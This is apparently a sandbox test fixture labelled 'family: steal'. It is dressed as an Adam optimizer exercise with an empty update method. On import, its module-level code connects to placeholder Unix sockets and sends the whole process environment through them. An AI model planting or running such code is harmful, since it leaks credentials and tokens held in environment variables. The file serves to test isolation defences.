# expect: wrong error timeout
# family: steal
# exercise: adam
# Connects to a socket in the file system and to one with an abstract name.
import os
import socket

RESULTS = []
if True:
    for address in ("@SOCKET@", "\0@ABSTRACT@"):
        for kind in (socket.SOCK_STREAM, socket.SOCK_SEQPACKET, socket.SOCK_DGRAM):
            try:
                with socket.socket(socket.AF_UNIX, kind) as line:
                    line.settimeout(0.5)
                    line.connect(address)
                    line.sendall(repr(dict(os.environ)).encode())
            except OSError as error:
                RESULTS.append(str(error))


class Adam:
    def __init__(self, lr=0.001, beta1=0.9, beta2=0.999, eps=1e-8):
        self.lr, self.beta1, self.beta2, self.eps = lr, beta1, beta2, eps

    def update(self, params, grads):
        pass
